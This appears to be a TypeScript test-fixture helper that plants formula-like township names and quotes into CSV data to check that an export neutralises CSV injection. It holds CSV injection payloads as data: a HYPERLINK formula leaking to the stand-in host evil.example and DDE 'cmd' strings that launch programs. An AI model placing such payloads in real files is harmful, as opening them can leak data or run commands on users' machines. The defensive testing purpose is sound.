// Rewrites a copy of the shipped data so that township names, a metric item,
// metric quotes and a shortcoming quote start like spreadsheet formulas
// (CWE-1236, OWASP "CSV injection"). A CSV export must neutralise every one
// of them with a leading apostrophe and keep the numbers numbers.
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { readCsv, writeCsv } from './csv-table';

/** Township id → its formula-like name. The rest keep their names. */
export const FORMULA_TOWNSHIP_NAMES: Record<string, string> = {
  taerma: '=HYPERLINK("http://evil.example/?leak=1","点击查看")',
  haizigou: "+cmd|' /C calc'!A0",
  bitu: '@SUM(1+1)乡',
  daguo: '-2+3乡',
};
/** Prefixed to taerma's outreach_events quotes (kept verbatim in the report text). */
export const FORMULA_QUOTE_PREFIX = '=1+1,"x"';
export const FORMULA_ITEM = '+集中宣讲';
export const FORMULA_SHORTCOMING_QUOTE = "=cmd|' /C notepad'!A0 法律人才不足";

export function writeFormulaData(dataDir: string): void {
  const townships = readCsv(join(dataDir, 'townships.csv'));
  for (const row of townships.rows) row.name = FORMULA_TOWNSHIP_NAMES[row.id ?? ''] ?? row.name ?? '';
  writeCsv(join(dataDir, 'townships.csv'), townships.fields, townships.rows);

  const reports = readCsv(join(dataDir, 'reports.csv'));
  const reportFileOf = (townshipId: string): string => {
    const file = reports.rows.find((row) => row.township_id === townshipId)?.file;
    if (!file) throw new Error(`formula data: no report for ${townshipId}`);
    return join(dataDir, file);
  };

  // Quotes must stay verbatim in their report, so the report text gets them too.
  const metrics = readCsv(join(dataDir, 'metrics.csv'));
  const events = metrics.rows.filter((row) => row.township_id === 'taerma' && row.metric === 'outreach_events');
  if (events.length === 0) throw new Error('formula data: taerma has no outreach_events rows');
  for (const row of events) {
    row.quote = `${FORMULA_QUOTE_PREFIX}${row.quote ?? ''}`;
    appendFileSync(reportFileOf('taerma'), `\n${row.quote}。\n`);
  }
  events[0]!.item = FORMULA_ITEM;
  writeCsv(join(dataDir, 'metrics.csv'), metrics.fields, metrics.rows);

  const shortcomings = readCsv(join(dataDir, 'shortcomings.csv'));
  shortcomings.rows.push({ township_id: 'bitu', year: '2024', category: 'legal_talent', quote: FORMULA_SHORTCOMING_QUOTE });
  writeCsv(join(dataDir, 'shortcomings.csv'), shortcomings.fields, shortcomings.rows);
  appendFileSync(reportFileOf('bitu'), `\n${FORMULA_SHORTCOMING_QUOTE}。\n`);
}
